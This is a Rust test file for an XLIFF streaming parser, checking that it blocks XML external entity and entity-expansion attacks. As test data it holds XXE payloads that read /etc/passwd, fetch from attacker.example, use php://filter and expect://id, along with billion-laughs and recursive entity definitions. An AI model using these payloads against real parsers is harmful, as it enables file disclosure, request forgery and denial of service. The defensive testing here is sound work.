//! External entity and entity expansion hardening.
//!
//! Both passes are exercised: DOCTYPE vetting in the outer scan, and the
//! reference budget applied to each unit before it is re-parsed.

use std::fs;
use std::path::Path;

use pretty_assertions::assert_eq;
use xliff_streaming::{extract, extract_all, ErrorKind, ParserConfig, XliffStreamingParser};

fn load_fixture(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests")
        .join("fixtures")
        .join(name);
    fs::read_to_string(&path).unwrap_or_else(|e| panic!("Failed to load {}: {}", path.display(), e))
}

/// A 1.2 document with `decl` in its internal subset and `source` as the
/// only unit's source content. The unit sits on line 4.
fn document(decl: &str, source: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n\
         <!DOCTYPE xliff [{decl}]>\n\
         <xliff version=\"1.2\" xmlns=\"urn:oasis:names:tc:xliff:document:1.2\"><file><body>\n\
         <trans-unit id=\"t\"><source>{source}</source></trans-unit>\n\
         </body></file></xliff>"
    )
}

#[test]
fn test_xxe_file_fixture_is_blocked() {
    let xml = load_fixture("xxe-file.xlf");
    let mut units = extract(&xml);

    let safe = units.next().unwrap().unwrap();
    assert_eq!(safe.id, "safe");

    let err = units.next().unwrap().unwrap_err();
    assert_eq!(err.kind(), ErrorKind::ExternalEntityBlocked);
    assert_eq!(err.code(), 1_700_000_003);
    assert_eq!(err.line(), Some(11));
    assert!(!err.to_string().contains("root:"));
    assert!(units.next().is_none());
}

#[test]
fn test_external_entity_schemes_blocked() {
    for decl in [
        r#"<!ENTITY xxe SYSTEM "file:///etc/passwd">"#,
        r#"<!ENTITY xxe SYSTEM "http://attacker.example/xxe">"#,
        r#"<!ENTITY xxe SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">"#,
        r#"<!ENTITY xxe PUBLIC "-//ATTACKER//XXE" "https://attacker.example/xxe.dtd">"#,
        r#"<!ENTITY xxe SYSTEM 'expect://id'>"#,
    ] {
        let err = extract_all(&document(decl, "&xxe;")).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::ExternalEntityBlocked, "{decl}");
        assert_eq!(err.line(), Some(4), "{decl}");
    }
}

#[test]
fn test_external_entity_behind_internal_wrapper_blocked() {
    let decl = r#"<!ENTITY xxe SYSTEM "file:///etc/hostname"><!ENTITY wrap "prefix &xxe; suffix">"#;
    let err = extract_all(&document(decl, "&wrap;")).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::ExternalEntityBlocked);
}

#[test]
fn test_declared_but_unused_external_entity_is_inert() {
    let decl = r#"<!ENTITY xxe SYSTEM "file:///etc/passwd">"#;
    let units = extract_all(&document(decl, "Plain text")).unwrap();
    assert_eq!(units.len(), 1);
    assert_eq!(units[0].source, "Plain text");
}

#[test]
fn test_external_dtd_subset_never_fetched() {
    let xml = "<?xml version=\"1.0\"?>\n\
        <!DOCTYPE xliff SYSTEM \"http://attacker.example/evil.dtd\">\n\
        <xliff><file><body><trans-unit id=\"t\"><source>ok</source></trans-unit></body></file></xliff>";
    let units = extract_all(xml).unwrap();
    assert_eq!(units[0].source, "ok");
}

#[test]
fn test_parameter_entities_not_expanded() {
    let decl = r#"<!ENTITY % remote SYSTEM "http://attacker.example/remote.dtd"> %remote;"#;
    let units = extract_all(&document(decl, "Safe")).unwrap();
    assert_eq!(units[0].source, "Safe");
}

#[test]
fn test_billion_laughs_fixture_rejected_at_doctype() {
    let err = extract_all(&load_fixture("billion-laughs.xlf")).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::EntityExpansion);
    assert_eq!(err.code(), 1_700_000_002);
    assert_eq!(err.line(), Some(2));
}

#[test]
fn test_billion_laughs_rejected_even_when_unreferenced() {
    let decl = concat!(
        r#"<!ENTITY a "aaaaaaaaaa">"#,
        r#"<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">"#,
        r#"<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">"#,
        r#"<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">"#,
    );
    let err = extract_all(&document(decl, "no reference")).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::EntityExpansion);
}

#[test]
fn test_recursive_entities_rejected() {
    let decl = r#"<!ENTITY a "&b;"><!ENTITY b "&a;">"#;
    let err = extract_all(&document(decl, "&a;")).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::EntityExpansion);
    assert_eq!(err.line(), Some(2));
}

#[test]
fn test_small_internal_entity_is_expanded() {
    let decl = r#"<!ENTITY product "Acme Suite"><!ENTITY full "&product; Pro">"#;
    let units = extract_all(&document(decl, "Welcome to &full;")).unwrap();
    assert_eq!(units[0].source, "Welcome to Acme Suite Pro");
}

#[test]
fn test_unit_reference_budget_enforced_on_reparse() {
    // Each entity is harmless on its own; the unit's references together
    // exceed the substitution budget.
    let decl = r#"<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">"#;
    let source = "&b;".repeat(10);
    let config = ParserConfig::new().with_max_entity_substitutions(20);

    let err = XliffStreamingParser::with_config(config)
        .parse_trans_units(&document(decl, &source))
        .collect::<Result<Vec<_>, _>>()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::EntityExpansion);
    assert_eq!(err.line(), Some(4));
}

#[test]
fn test_unit_byte_budget_enforced_on_reparse() {
    let decl = format!(r#"<!ENTITY big "{}">"#, "x".repeat(1000));
    let source = "&big;".repeat(8);
    let config = ParserConfig::new().with_max_entity_expansion(4096);

    let err = XliffStreamingParser::with_config(config)
        .parse_trans_units(&document(&decl, &source))
        .collect::<Result<Vec<_>, _>>()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::EntityExpansion);
}

#[test]
fn test_doctype_limits_configurable() {
    let decl = r#"<!ENTITY a "x"><!ENTITY b "&a;"><!ENTITY c "&b;"><!ENTITY d "&c;">"#;

    let strict = ParserConfig::new().with_max_entity_depth(2);
    let err = XliffStreamingParser::with_config(strict)
        .parse_trans_units(&document(decl, "&d;"))
        .next()
        .unwrap()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::EntityExpansion);

    let units = extract_all(&document(decl, "&d;")).unwrap();
    assert_eq!(units[0].source, "x");
}

#[test]
fn test_node_limit_applies_to_unit() {
    let source = format!("text{}", "<g/>".repeat(200));
    let xml = format!(
        "<xliff><file><body><trans-unit id=\"n\"><source>{source}</source></trans-unit></body></file></xliff>"
    );
    let config = ParserConfig::new().with_nodes_limit(50);

    let err = XliffStreamingParser::with_config(config)
        .parse_trans_units(&xml)
        .next()
        .unwrap()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::MalformedXml);

    let units = extract_all(&xml).unwrap();
    assert_eq!(units.len(), 1);
    assert_eq!(units[0].id, "n");
    assert_eq!(units[0].source, "text");
}
